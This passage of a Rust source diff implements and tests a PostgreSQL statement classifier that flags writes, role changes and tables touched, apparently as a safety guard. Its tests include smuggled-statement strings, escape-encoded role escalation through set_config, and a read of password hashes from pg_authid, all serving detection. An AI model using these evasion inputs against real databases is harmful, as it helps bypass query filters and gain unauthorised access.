+        "Boolean" => Some(if v.flag("boolval") { "true" } else { "false" }.to_string()),
+        _ => None,
+    }
+}
+
+/// Whether an option argument is plainly false (no argument means true).
+fn is_false(arg: Option<&V>) -> bool {
+    match arg {
+        None => false,
+        Some(a) => match const_text(a) {
+            Some(t) => matches!(
+                t.to_ascii_lowercase().as_str(),
+                "false" | "off" | "no" | "0" | "f" | "n"
+            ),
+            None => false,
+        },
+    }
+}
+
+/// The statement a PREPARE text wraps: what follows its first `AS` keyword.
+fn prepared_text(text: &str) -> String {
+    if let Ok(scan) = pg_query::scan(text) {
+        let mut tokens = scan.tokens.iter();
+        while let Some(t) = tokens.next() {
+            if t.token == protobuf::Token::As as i32 {
+                if let Some(next) = tokens.next()
+                    && let Some(rest) = usize::try_from(next.start).ok().and_then(|s| text.get(s..))
+                {
+                    return rest.trim().to_string();
+                }
+                break;
+            }
+        }
+    }
+    text.trim().to_string()
+}
+
+fn dedup(v: &mut Vec<String>) {
+    if v.len() < 2 {
+        return;
+    }
+    let mut seen = HashSet::with_capacity(v.len());
+    let mut out = Vec::with_capacity(v.len());
+    for s in v.drain(..) {
+        if !seen.contains(&s) {
+            seen.insert(s.clone());
+            out.push(s);
+        }
+    }
+    *v = out;
+}
+
+/// Built-in operator symbols, which compute without side effects.
+#[rustfmt::skip]
+const BUILTIN_OPERATORS: &[&str] = &[
+    "=", "<>", "!=", "<", ">", "<=", ">=", "+", "-", "*", "/", "%", "^", "|/", "||/", "@", "&", "|", "#",
+    "~", "<<", ">>", "<<=", ">>=", "||", "~~", "!~~", "~~*", "!~~*", "~*", "!~", "!~*", "@>", "<@", "&&",
+    "?", "?|", "?&", "->", "->>", "#>", "#>>", "#-", "@?", "@@", "@@@", "<->", "&<", "&>", "<<|", "|>>",
+    "&<|", "|&>", "<^", ">^", "?#", "?-", "?-|", "?||", "~=", "@-@", "##", "-|-", "!!", "BETWEEN",
+    "NOT BETWEEN", "BETWEEN SYMMETRIC", "NOT BETWEEN SYMMETRIC",
+];
+
+/// Built-in functions that only compute or read: calling anything else may write.
+fn read_only_functions() -> &'static HashSet<&'static str> {
+    static SET: OnceLock<HashSet<&'static str>> = OnceLock::new();
+    SET.get_or_init(|| READ_ONLY_FUNCTIONS.iter().copied().collect())
+}
+
+#[rustfmt::skip]
+const READ_ONLY_FUNCTIONS: &[&str] = &[
+    // Aggregates and window functions.
+    "count", "sum", "avg", "min", "max", "array_agg", "string_agg", "bool_and", "bool_or", "every",
+    "bit_and", "bit_or", "bit_xor", "json_agg", "jsonb_agg", "json_object_agg", "jsonb_object_agg",
+    "json_agg_strict", "jsonb_agg_strict", "json_object_agg_strict", "jsonb_object_agg_strict",
+    "json_object_agg_unique", "jsonb_object_agg_unique", "xmlagg", "stddev", "stddev_pop",
+    "stddev_samp", "variance", "var_pop", "var_samp", "corr", "covar_pop", "covar_samp", "regr_avgx",
+    "regr_avgy", "regr_count", "regr_intercept", "regr_r2", "regr_slope", "regr_sxx", "regr_sxy",
+    "regr_syy", "percentile_cont", "percentile_disc", "mode", "any_value", "range_agg",
+    "range_intersect_agg", "grouping", "row_number", "rank", "dense_rank", "percent_rank",
+    "cume_dist", "ntile", "lag", "lead", "first_value", "last_value", "nth_value",
+    // Strings.
+    "lower", "upper", "initcap", "length", "char_length", "character_length", "octet_length",
+    "bit_length", "substr", "substring", "left", "right", "trim", "btrim", "ltrim", "rtrim", "lpad",
+    "rpad", "replace", "translate", "overlay", "position", "strpos", "split_part", "concat",
+    "concat_ws", "format", "repeat", "reverse", "ascii", "chr", "to_hex", "to_bin", "to_oct",
+    "md5", "sha224", "sha256", "sha384", "sha512", "crc32", "crc32c", "encode", "decode",
+    "convert", "convert_from", "convert_to", "quote_ident", "quote_literal", "quote_nullable",
+    "starts_with", "string_to_array", "string_to_table", "regexp_match", "regexp_matches",
+    "regexp_replace", "regexp_split_to_array", "regexp_split_to_table", "regexp_like",
+    "regexp_count", "regexp_instr", "regexp_substr", "similar_to_escape", "similar_escape",
+    "like_escape", "normalize", "is_normalized", "unistr", "casefold", "get_byte", "get_bit",
+    "set_byte", "set_bit", "bit_count", "text", "varchar", "bpchar", "char", "name",
+    "pg_collation_for", "to_char", "to_number", "to_date", "to_timestamp",
+    // Numbers.
+    "abs", "ceil", "ceiling", "floor", "round", "trunc", "sign", "sqrt", "cbrt", "power", "pow",
+    "exp", "ln", "log", "log10", "mod", "div", "gcd", "lcm", "factorial", "pi", "degrees",
+    "radians", "sin", "cos", "tan", "cot", "asin", "acos", "atan", "atan2", "sind", "cosd", "tand",
+    "cotd", "asind", "acosd", "atand", "atan2d", "sinh", "cosh", "tanh", "asinh", "acosh", "atanh",
+    "width_bucket", "scale", "min_scale", "trim_scale", "random", "random_normal", "erf", "erfc",
+    "int2", "int4", "int8", "float4", "float8", "numeric", "bool", "money",
+    // Dates and times.
+    "now", "current_timestamp", "clock_timestamp", "statement_timestamp",
+    "transaction_timestamp", "timeofday", "date_trunc", "date_part", "date_bin", "extract", "age",
+    "make_date", "make_time", "make_timestamp", "make_timestamptz", "make_interval",
+    "justify_days", "justify_hours", "justify_interval", "isfinite", "timezone", "overlaps",
+    "date", "time", "timestamp", "timestamptz", "interval", "date_add", "date_subtract",
+    // JSON and XML.
+    "to_json", "to_jsonb", "row_to_json", "array_to_json", "json_build_object",
+    "jsonb_build_object", "json_build_array", "jsonb_build_array", "json_object", "jsonb_object",
+    "json_array_length", "jsonb_array_length", "json_each", "jsonb_each", "json_each_text",
+    "jsonb_each_text", "json_extract_path", "jsonb_extract_path", "json_extract_path_text",
+    "jsonb_extract_path_text", "json_object_keys", "jsonb_object_keys", "json_array_elements",
+    "jsonb_array_elements", "json_array_elements_text", "jsonb_array_elements_text",
+    "json_typeof", "jsonb_typeof", "json_strip_nulls", "jsonb_strip_nulls", "jsonb_pretty",
+    "jsonb_set", "jsonb_set_lax", "jsonb_insert", "jsonb_concat", "jsonb_delete",
+    "jsonb_path_query", "jsonb_path_query_array", "jsonb_path_query_first", "jsonb_path_exists",
+    "jsonb_path_match", "jsonb_path_query_tz", "jsonb_path_query_array_tz",
+    "jsonb_path_query_first_tz", "jsonb_path_exists_tz", "jsonb_path_match_tz",
+    "json_populate_record", "jsonb_populate_record", "json_populate_recordset",
+    "jsonb_populate_recordset", "json_to_record", "jsonb_to_record", "json_to_recordset",
+    "jsonb_to_recordset", "jsonb_populate_record_valid", "json_scalar", "json_serialize",
+    "xpath", "xpath_exists", "xml_is_well_formed", "xml_is_well_formed_document",
+    "xml_is_well_formed_content", "xmlcomment", "xmltext",
+    // Arrays and ranges.
+    "array_length", "array_lower", "array_upper", "array_ndims", "array_dims", "cardinality",
+    "array_position", "array_positions", "array_append", "array_prepend", "array_cat",
+    "array_remove", "array_replace", "array_fill", "array_to_string", "array_sample",
+    "array_shuffle", "trim_array", "unnest", "generate_series", "generate_subscripts",
+    "lower_inc", "upper_inc", "lower_inf", "upper_inf", "isempty", "range_merge", "multirange",
+    "int4range", "int8range", "numrange", "tsrange", "tstzrange", "daterange",
+    // Text search (ts_stat and ts_rewrite run SQL given as text: not listed).
+    "to_tsvector", "to_tsquery", "plainto_tsquery", "phraseto_tsquery", "websearch_to_tsquery",
+    "ts_rank", "ts_rank_cd", "ts_headline", "setweight", "strip", "numnode", "querytree",
+    "tsvector_to_array", "array_to_tsvector", "ts_delete", "ts_filter", "ts_lexize",
+    "get_current_ts_config",
+    // Conditionals, types, UUIDs, network.
+    "num_nulls", "num_nonnulls", "pg_typeof", "format_type", "to_regclass", "to_regtype",
+    "to_regproc", "to_regprocedure", "to_regoper", "to_regnamespace", "to_regrole",
+    "to_regcollation", "to_regtypemod", "gen_random_uuid", "uuidv4", "uuid_extract_version",
+    "uuid_extract_timestamp", "host", "hostmask", "netmask", "network", "masklen", "broadcast",
+    "abbrev", "family", "inet_same_family", "inet_merge", "set_masklen",
+    // Session and catalog information.
+    "current_database", "current_catalog", "current_schema", "current_schemas", "current_user",
+    "current_role", "session_user", "system_user", "user", "version", "current_setting",
+    "pg_backend_pid", "pg_blocking_pids", "pg_safe_snapshot_blocking_pids", "inet_client_addr",
+    "inet_client_port", "inet_server_addr", "inet_server_port", "pg_postmaster_start_time",
+    "pg_conf_load_time", "pg_is_in_recovery", "pg_last_xact_replay_timestamp",
+    "pg_current_snapshot", "txid_current_snapshot", "pg_snapshot_xmin", "pg_snapshot_xmax",
+    "pg_snapshot_xip", "pg_visible_in_snapshot", "pg_trigger_depth", "pg_jit_available",
+    "pg_listening_channels", "pg_my_temp_schema", "pg_is_other_temp_schema", "row_security_active",
+    "pg_has_role", "has_any_column_privilege", "has_column_privilege", "has_database_privilege",
+    "has_foreign_data_wrapper_privilege", "has_function_privilege", "has_language_privilege",
+    "has_parameter_privilege", "has_schema_privilege", "has_sequence_privilege",
+    "has_server_privilege", "has_table_privilege", "has_tablespace_privilege",
+    "has_type_privilege", "pg_table_is_visible", "pg_type_is_visible", "pg_function_is_visible",
+    "pg_get_constraintdef", "pg_get_expr", "pg_get_functiondef", "pg_get_function_arguments",
+    "pg_get_function_identity_arguments", "pg_get_function_result", "pg_get_indexdef",
+    "pg_get_keywords", "pg_get_ruledef", "pg_get_serial_sequence", "pg_get_statisticsobjdef",
+    "pg_get_triggerdef", "pg_get_userbyid", "pg_get_viewdef", "pg_get_partkeydef",
+    "pg_index_column_has_property", "pg_index_has_property", "pg_indexam_has_property",
+    "pg_options_to_table", "pg_tablespace_location", "obj_description", "col_description",
+    "shobj_description", "pg_column_size", "pg_column_compression", "pg_database_size",
+    "pg_indexes_size", "pg_relation_size", "pg_table_size", "pg_total_relation_size",
+    "pg_tablespace_size", "pg_size_pretty", "pg_size_bytes", "pg_encoding_to_char",
+    "pg_char_to_encoding", "pg_client_encoding", "currval", "lastval", "pg_sleep",
+    "pg_sleep_for", "pg_sleep_until", "pg_input_is_valid", "pg_input_error_info",
+];
+
+// ---------------------------------------------------------------------------------------------
+// The generic tree.
+
+mod tree {
+    //! pg_query's parse tree, serialized into named nodes so the walk can visit every field of
+    //! every node without knowing each node type. Default values (false, 0, "", empty lists,
+    //! absent nodes) and locations are left out, as in the protobuf encoding.
+
+    use serde::ser::{self, Serialize};
+
+    #[derive(Debug, PartialEq)]
+    pub(super) enum V {
+        Null,
+        Bool(bool),
+        Int(i64),
+        Str(String),
+        List(Vec<V>),
+        /// A node: its type name and its non-default fields, in declaration order.
+        Obj(&'static str, Vec<(&'static str, V)>),
+    }
+
+    impl V {
+        pub fn name(&self) -> &'static str {
+            match self {
+                V::Obj(n, _) => n,
+                _ => "",
+            }
+        }
+
+        pub fn get(&self, key: &str) -> Option<&V> {
+            match self {
+                V::Obj(_, fields) => fields.iter().find(|(k, _)| *k == key).map(|(_, v)| v),
+                _ => None,
+            }
+        }
+
+        pub fn str(&self, key: &str) -> &str {
+            match self.get(key) {
+                Some(V::Str(s)) => s,
+                _ => "",
+            }
+        }
+
+        pub fn int(&self, key: &str) -> i64 {
+            match self.get(key) {
+                Some(V::Int(i)) => *i,
+                _ => 0,
+            }
+        }
+
+        pub fn flag(&self, key: &str) -> bool {
+            matches!(self.get(key), Some(V::Bool(true)))
+        }
+
+        pub fn list(&self, key: &str) -> &[V] {
+            match self.get(key) {
+                Some(V::List(l)) => l,
+                Some(other) => std::slice::from_ref(other),
+                None => &[],
+            }
+        }
+
+        /// The value of a `String` node.
+        pub fn sval(&self) -> Option<&str> {
+            (self.name() == "String").then(|| self.str("sval"))
+        }
+    }
+
+    #[derive(Debug)]
+    pub(super) struct Error(String);
+
+    impl std::fmt::Display for Error {
+        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+            f.write_str(&self.0)
+        }
+    }
+
+    impl std::error::Error for Error {}
+
+    impl ser::Error for Error {
+        fn custom<T: std::fmt::Display>(msg: T) -> Self {
+            Error(msg.to_string())
+        }
+    }
+
+    pub(super) fn build<T: Serialize + ?Sized>(v: &T) -> Result<V, Error> {
+        v.serialize(Ser)
+    }
+
+    struct Ser;
+
+    type R = Result<V, Error>;
+
+    impl ser::Serializer for Ser {
+        type Ok = V;
+        type Error = Error;
+        type SerializeSeq = Seq;
+        type SerializeTuple = Seq;
+        type SerializeTupleStruct = Seq;
+        type SerializeTupleVariant = Seq;
+        type SerializeMap = ser::Impossible<V, Error>;
+        type SerializeStruct = Struct;
+        type SerializeStructVariant = Struct;
+
+        fn serialize_bool(self, v: bool) -> R {
+            Ok(V::Bool(v))
+        }
+        fn serialize_i8(self, v: i8) -> R {
+            Ok(V::Int(v.into()))
+        }
+        fn serialize_i16(self, v: i16) -> R {
+            Ok(V::Int(v.into()))
+        }
+        fn serialize_i32(self, v: i32) -> R {
+            Ok(V::Int(v.into()))
+        }
+        fn serialize_i64(self, v: i64) -> R {
+            Ok(V::Int(v))
+        }
+        fn serialize_u8(self, v: u8) -> R {
+            Ok(V::Int(v.into()))
+        }
+        fn serialize_u16(self, v: u16) -> R {
+            Ok(V::Int(v.into()))
+        }
+        fn serialize_u32(self, v: u32) -> R {
+            Ok(V::Int(v.into()))
+        }
+        fn serialize_u64(self, v: u64) -> R {
+            Ok(V::Int(v as i64))
+        }
+        fn serialize_f32(self, _: f32) -> R {
+            Ok(V::Null)
+        }
+        fn serialize_f64(self, _: f64) -> R {
+            Ok(V::Null)
+        }
+        fn serialize_char(self, v: char) -> R {
+            Ok(V::Str(v.to_string()))
+        }
+        fn serialize_str(self, v: &str) -> R {
+            Ok(V::Str(v.to_owned()))
+        }
+        fn serialize_bytes(self, _: &[u8]) -> R {
+            Ok(V::Null)
+        }
+        fn serialize_none(self) -> R {
+            Ok(V::Null)
+        }
+        fn serialize_some<T: ?Sized + Serialize>(self, v: &T) -> R {
+            v.serialize(self)
+        }
+        fn serialize_unit(self) -> R {
+            Ok(V::Null)
+        }
+        fn serialize_unit_struct(self, _: &'static str) -> R {
+            Ok(V::Null)
+        }
+        fn serialize_unit_variant(self, _: &'static str, _: u32, variant: &'static str) -> R {
+            Ok(V::Str(variant.to_owned()))
+        }
+        fn serialize_newtype_struct<T: ?Sized + Serialize>(self, _: &'static str, v: &T) -> R {
+            v.serialize(self)
+        }
+        // `Node` is a oneof: the variant wraps a node struct that carries its own name.
+        fn serialize_newtype_variant<T: ?Sized + Serialize>(
+            self,
+            _: &'static str,
+            _: u32,
+            _: &'static str,
+            v: &T,
+        ) -> R {
+            v.serialize(self)
+        }
+        fn serialize_seq(self, len: Option<usize>) -> Result<Seq, Error> {
+            Ok(Seq(Vec::with_capacity(len.unwrap_or(0))))
+        }
+        fn serialize_tuple(self, len: usize) -> Result<Seq, Error> {
+            Ok(Seq(Vec::with_capacity(len)))
+        }
+        fn serialize_tuple_struct(self, _: &'static str, len: usize) -> Result<Seq, Error> {
+            Ok(Seq(Vec::with_capacity(len)))
+        }
+        fn serialize_tuple_variant(
+            self,
+            _: &'static str,
+            _: u32,
+            _: &'static str,
+            len: usize,
+        ) -> Result<Seq, Error> {
+            Ok(Seq(Vec::with_capacity(len)))
+        }
+        fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, Error> {
+            Err(Error("maps are not part of parse trees".into()))
+        }
+        fn serialize_struct(self, name: &'static str, len: usize) -> Result<Struct, Error> {
+            Ok(Struct {
+                name,
+                // Most fields hold defaults and are left out.
+                fields: Vec::with_capacity(len.min(4)),
+            })
+        }
+        fn serialize_struct_variant(
+            self,
+            _: &'static str,
+            _: u32,
+            variant: &'static str,
+            len: usize,
+        ) -> Result<Struct, Error> {
+            Ok(Struct {
+                name: variant,
+                fields: Vec::with_capacity(len),
+            })
+        }
+    }
+
+    pub(super) struct Seq(Vec<V>);
+
+    impl Seq {
+        fn push<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
+            self.0.push(v.serialize(Ser)?);
+            Ok(())
+        }
+    }
+
+    impl ser::SerializeSeq for Seq {
+        type Ok = V;
+        type Error = Error;
+        fn serialize_element<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
+            self.push(v)
+        }
+        fn end(self) -> R {
+            Ok(V::List(self.0))
+        }
+    }
+
+    impl ser::SerializeTuple for Seq {
+        type Ok = V;
+        type Error = Error;
+        fn serialize_element<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
+            self.push(v)
+        }
+        fn end(self) -> R {
+            Ok(V::List(self.0))
+        }
+    }
+
+    impl ser::SerializeTupleStruct for Seq {
+        type Ok = V;
+        type Error = Error;
+        fn serialize_field<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
+            self.push(v)
+        }
+        fn end(self) -> R {
+            Ok(V::List(self.0))
+        }
+    }
+
+    impl ser::SerializeTupleVariant for Seq {
+        type Ok = V;
+        type Error = Error;
+        fn serialize_field<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
+            self.push(v)
+        }
+        fn end(self) -> R {
+            Ok(V::List(self.0))
+        }
+    }
+
+    pub(super) struct Struct {
+        name: &'static str,
+        fields: Vec<(&'static str, V)>,
+    }
+
+    impl Struct {
+        fn field<T: ?Sized + Serialize>(&mut self, key: &'static str, value: &T) -> Result<(), Error> {
+            if key == "location" {
+                return Ok(());
+            }
+            let v = value.serialize(Ser)?;
+            let keep = match &v {
+                V::Null | V::Bool(false) | V::Int(0) => false,
+                V::Str(s) => !s.is_empty(),
+                V::List(l) => !l.is_empty(),
+                _ => true,
+            };
+            if keep {
+                self.fields.push((key, v));
+            }
+            Ok(())
+        }
+
+        fn finish(mut self) -> R {
+            // The `Node` wrapper is its one variant.
+            if self.name == "Node" {
+                return Ok(self.fields.pop().map_or(V::Null, |(_, v)| v));
+            }
+            Ok(V::Obj(self.name, self.fields))
+        }
+    }
+
+    impl ser::SerializeStruct for Struct {
+        type Ok = V;
+        type Error = Error;
+        fn serialize_field<T: ?Sized + Serialize>(
+            &mut self,
+            key: &'static str,
+            value: &T,
+        ) -> Result<(), Error> {
+            self.field(key, value)
+        }
+        fn end(self) -> R {
+            self.finish()
+        }
+    }
+
+    impl ser::SerializeStructVariant for Struct {
+        type Ok = V;
+        type Error = Error;
+        fn serialize_field<T: ?Sized + Serialize>(
+            &mut self,
+            key: &'static str,
+            value: &T,
+        ) -> Result<(), Error> {
+            self.field(key, value)
+        }
+        fn end(self) -> R {
+            self.finish()
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use StatementKind as K;
+
+    fn all(sql: &str) -> Vec<Statement> {
+        classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}")).statements
+    }
+
+    fn one(sql: &str) -> Statement {
+        let mut s = all(sql);
+        assert_eq!(s.len(), 1, "{sql}: {s:#?}");
+        s.remove(0)
+    }
+
+    fn kinds(sql: &str) -> Vec<K> {
+        one(sql).kinds
+    }
+
+    fn strs(v: &[&str]) -> Vec<String> {
+        v.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn dml_kinds_tables_and_columns() {
+        let s = one("SELECT abalance FROM pgbench_accounts WHERE aid = 12345;");
+        assert_eq!(s.kinds, vec![K::Select]);
+        assert_eq!(s.kind(), K::Select);
+        assert_eq!(s.text, "SELECT abalance FROM pgbench_accounts WHERE aid = 12345");
+        assert_eq!(s.tables, strs(&["public.pgbench_accounts"]));
+        assert_eq!(s.columns, strs(&["abalance", "aid"]));
+        assert!(!s.writes && !s.without_where && s.functions.is_empty());
+        assert_eq!(s.node, "SelectStmt");
+
+        let s = one("INSERT INTO billing.invoices (order_id, amount) VALUES (1, 2) RETURNING id");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Insert], true));
+        assert_eq!(s.tables, strs(&["billing.invoices"]));
+        assert_eq!(s.columns, strs(&["order_id", "amount", "id"]));
+
+        let s = one("UPDATE orders SET status = 'x' WHERE id = 1");
+        assert_eq!(
+            (s.kinds.clone(), s.writes, s.without_where),
+            (vec![K::Update], true, false)
+        );
+        assert_eq!(s.columns, strs(&["status", "id"]));
+
+        let s = one("DELETE FROM orders USING customers c WHERE c.id = orders.customer_id");
+        assert_eq!(s.kinds, vec![K::Delete]);
+        assert_eq!(s.tables, strs(&["public.orders", "public.customers"]));
+
+        let s = one("MERGE INTO orders o USING customers c ON o.customer_id = c.id \
+             WHEN MATCHED THEN UPDATE SET status = 'merged' \
+             WHEN NOT MATCHED THEN INSERT (customer_id) VALUES (c.id)");
+        assert_eq!(
+            (s.kinds.clone(), s.writes, s.without_where),
+            (vec![K::Merge], true, false)
+        );
+        assert_eq!(s.tables, strs(&["public.orders", "public.customers"]));
+        assert!(s.columns.contains(&"status".to_string()) && s.columns.contains(&"customer_id".to_string()));
+    }
+
+    #[test]
+    fn every_statement_of_a_text_is_seen() {
+        let s = all("SELECT 1; /* x */ DROP TABLE t");
+        assert_eq!(
+            s.iter().map(|s| s.kinds.clone()).collect::<Vec<_>>(),
+            vec![vec![K::Select], vec![K::Drop]]
+        );
+        assert_eq!(s[1].text, "/* x */ DROP TABLE t");
+        assert_eq!(s[1].tables, strs(&["public.t"]));
+        // A semicolon in a dollar quote is text; the one after it is not.
+        let s = all("SELECT $$;$$; DELETE FROM t");
+        assert_eq!(s.len(), 2);
+        assert_eq!((s[0].text.as_str(), s[1].kind()), ("SELECT $$;$$", K::Delete));
+        let s = all("SELECT $tag$ $$; $tag$; DELETE FROM t");
+        assert_eq!(s.len(), 2);
+        assert_eq!(s[1].kind(), K::Delete);
+        // Comments nest: the DROP is inside the outer comment.
+        let s = all("SELECT 1 /* a /* b */ ; DROP TABLE t */");
+        assert_eq!(s.len(), 1);
+        assert_eq!(s[0].kinds, vec![K::Select]);
+        // ... and after a nested comment closes, code resumes.
+        let s = all("SELECT 1 /* a /* b */ c */; DROP TABLE t");
+        assert_eq!(s.len(), 2);
+        let s = all("SELECT 1 -- ; DROP TABLE t\n; DELETE FROM u");
+        assert_eq!(
+            s.iter().map(Statement::kind).collect::<Vec<_>>(),
+            vec![K::Select, K::Delete]
+        );
+        let s = all("SELECT 'a;b', \"c;d\" FROM x; DELETE FROM t");
+        assert_eq!(s.len(), 2);
+        assert_eq!(s[0].text, "SELECT 'a;b', \"c;d\" FROM x");
+        // Nothing but separators, white space and comments: no statements.
+        for empty in ["", " ", ";", ";;", "-- x", "/* x */ ;"] {
+            assert!(all(empty).is_empty(), "{empty:?}");
+        }
+        // The whole text is refused when any part of it does not parse.
+        assert!(classify("SELECT 1; DELET FROM t").is_err());
+    }
+
+    #[test]
+    fn strings_are_read_as_postgresql_reads_them() {
+        // With standard_conforming_strings on, a backslash does not escape in '...': the string
+        // ends, and the DELETE is a statement (the -- hides the stray quote).
+        let s = all(r"SELECT 'a\'; DELETE FROM t; --'");
+        assert_eq!(
+            s.iter().map(Statement::kind).collect::<Vec<_>>(),
+            vec![K::Select, K::Delete]
+        );
+        // In E'...' it escapes: one string, one statement.
+        let s = all(r"SELECT E'a\'; DELETE FROM t; --'");
+        assert_eq!(s.len(), 1);
+        assert_eq!(s[0].kinds, vec![K::Select]);
+        // E'' escapes decode before classification: set_config(E'\x72ole') is set_config('role').
+        assert_eq!(
+            kinds(r"SELECT set_config(E'\x72ole', 'admin', false)"),
+            vec![K::Select, K::SetRole]
+        );
+        assert_eq!(
+            kinds(r"SELECT set_config(U&'\0072ole', 'admin', false)"),
+            vec![K::Select, K::SetRole]
+        );
+    }
+
+    #[test]
+    fn identifiers_are_read_as_postgresql_reads_them() {
+        // U&"..." identifiers decode.
+        assert_eq!(
+            one(r#"SELECT * FROM U&"\0073ecret""#).tables,
+            strs(&["public.secret"])
+        );
+        assert_eq!(
+            one(r#"SELECT * FROM U&"!0073ecret" UESCAPE '!'"#).tables,
+            strs(&["public.secret"])
+        );
+        assert_eq!(
+            one(r#"DELETE FROM U&"d\0061ta" WHERE true"#).tables,
+            strs(&["public.data"])
+        );
+        // Quoted names keep their case; unquoted ones fold to lowercase.
+        assert_eq!(
+            one(r#"SELECT * FROM "Orders", ORDERS, Billing."Invoices""#).tables,
+            strs(&["public.Orders", "public.orders", "billing.Invoices"])
+        );
+        // Quoted keywords are names.
+        let s = one(r#"SELECT "select" FROM "from"."table""#);
+        assert_eq!((s.tables, s.columns), (strs(&["from.table"]), strs(&["select"])));
+        // Odd white space and case.
+        let s = one("dElEtE\x0cFrOm\t\"orders\"\r\n\x0bWhErE\nid=1");
+        assert_eq!((s.kinds, s.tables), (vec![K::Delete], strs(&["public.orders"])));
+        let s = one("sElEcT\u{0009}*\nfRoM\r\nBiLlInG.InVoIcEs");
+        assert_eq!(s.tables, strs(&["billing.invoices"]));
+        // Catalog relations: pg_* names resolve to pg_catalog first.
+        assert_eq!(
+            one("SELECT rolpassword FROM pg_authid").tables,
+            strs(&["pg_catalog.pg_authid"])
+        );
+        assert_eq!(
+            one("SELECT * FROM information_schema.tables").tables,
+            strs(&["information_schema.tables"])
+        );
+    }
+
+    #[test]
+    fn data_modifying_ctes_are_writes() {
+        let s = one("WITH d AS (DELETE FROM billing.invoices RETURNING *) SELECT count(*) FROM d");
+        assert_eq!(s.kinds, vec![K::Select, K::Delete]);
+        assert!(s.writes && s.without_where);
+        assert_eq!(s.tables, strs(&["billing.invoices"]));
+        let s = one(
+            "WITH u AS (UPDATE orders SET total = total * 2 WHERE id > 0 RETURNING customer_id) \
+             SELECT * FROM customers WHERE id IN (SELECT customer_id FROM u)",
+        );
+        assert_eq!(s.kinds, vec![K::Select, K::Update]);
+        assert!(s.writes && !s.without_where);
+        assert_eq!(s.tables, strs(&["public.orders", "public.customers"]));
+        let s = one(
+            "WITH w AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) \
+             INSERT INTO orders (customer_id) SELECT id FROM w",
+        );
+        assert_eq!(s.kinds, vec![K::Insert]);
+        assert_eq!(s.tables, strs(&["public.customers", "public.orders"]));
+        let s = one(
+            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), \
+             i AS (MERGE INTO t USING r ON t.id = r.n WHEN MATCHED THEN DELETE) SELECT 1",
+        );
+        assert_eq!(s.kinds, vec![K::Select, K::Merge]);
+        assert_eq!(s.tables, strs(&["public.t"]));
+        // Nested below a subquery (PostgreSQL refuses it, the classifier still sees it).
+        let s = one("SELECT * FROM (WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x) s");
+        assert_eq!(s.kinds, vec![K::Select, K::Delete]);
+        // A data-modifying CTE inside a data-modifying statement.
+        let s = one("WITH a AS (UPDATE t SET x = 1 RETURNING 1) DELETE FROM u WHERE id IN (SELECT 1 FROM a)");
+        assert_eq!(s.kinds, vec![K::Delete, K::Update]);
+        assert!(s.without_where);
+    }
+
+    #[test]
+    fn cte_names_are_not_tables_unless_out_of_scope() {
+        assert!(
+            one("WITH orders AS (SELECT 1) SELECT * FROM orders")
+                .tables
+                .is_empty()
+        );
+        assert_eq!(
+            one("WITH o AS (SELECT * FROM orders) SELECT * FROM o JOIN customers c ON true").tables,
+            strs(&["public.orders", "public.customers"])
+        );
+        // A CTE defined in one subquery does not hide a table of the same name elsewhere.
+        assert_eq!(
+            one("SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) a, secret").tables,
+            strs(&["public.secret"])
+        );
+        // Without RECURSIVE a CTE does not see itself (nor later ones): that `t` is the table.
+        assert_eq!(
+            one("WITH t AS (SELECT * FROM t) SELECT * FROM t").tables,
+            strs(&["public.t"])
+        );
+        assert_eq!(
+            one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b").tables,
+            strs(&["public.b"])
+        );
+        assert!(
+            one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r")
+                .tables
+                .is_empty()
+        );
+        // DML targets, COPY and LOCK name tables even when a CTE has the name.
+        assert_eq!(
+            one("WITH orders AS (SELECT 1) DELETE FROM orders").tables,
+            strs(&["public.orders"])
+        );
+        assert_eq!(
+            one("WITH orders AS (SELECT 1) INSERT INTO orders SELECT * FROM orders").tables,
+            strs(&["public.orders"])
+        );
+        assert_eq!(
+            one("WITH s AS (SELECT 1) UPDATE t SET a = 1 FROM s WHERE true").tables,
+            strs(&["public.t"])
+        );
+        assert!(
+            one("WITH s AS (SELECT 1) MERGE INTO t USING s ON true WHEN MATCHED THEN DO NOTHING")
+                .tables
+                .contains(&"public.t".to_string())
+        );
+        // A schema-qualified name is never a CTE.
+        assert_eq!(
+            one("WITH orders AS (SELECT 1) SELECT * FROM public.orders").tables,
+            strs(&["public.orders"])
+        );
+    }
+
+    #[test]
+    fn nothing_nested_escapes() {
+        let s = one("SELECT a.x, (SELECT max(y) FROM b WHERE b.id = a.id) FROM a \
+             LEFT JOIN LATERAL (SELECT * FROM c WHERE c.a = a.id) l ON true \
+             WHERE a.z IN (SELECT z FROM d) AND EXISTS (SELECT 1 FROM e) \
+             AND lower(a.n) = ANY (SELECT n FROM f) \
+             UNION SELECT x, y FROM g ORDER BY 1");
+        let mut tables = s.tables.clone();
+        tables.sort();
+        assert_eq!(
+            tables,
+            strs(&[
+                "public.a", "public.b", "public.c", "public.d", "public.e", "public.f", "public.g"
+            ])
+        );
+        assert!(!s.writes, "{s:?}");
+        // Function arguments, ON CONFLICT, RETURNING.
+        let s = one("INSERT INTO t (a) SELECT coalesce((SELECT v FROM src), 0) \
+             ON CONFLICT (a) DO UPDATE SET b = (SELECT w FROM other) WHERE t.c > 0 \
+             RETURNING (SELECT secret FROM vault LIMIT 1)");
+        assert_eq!(
+            s.tables,
+            strs(&["public.t", "public.src", "public.other", "public.vault"])
+        );
+        assert!(s.columns.contains(&"b".to_string()) && s.columns.contains(&"secret".to_string()));
+        // DEFAULT expressions and generated columns in CREATE TABLE.
+        let s = one(
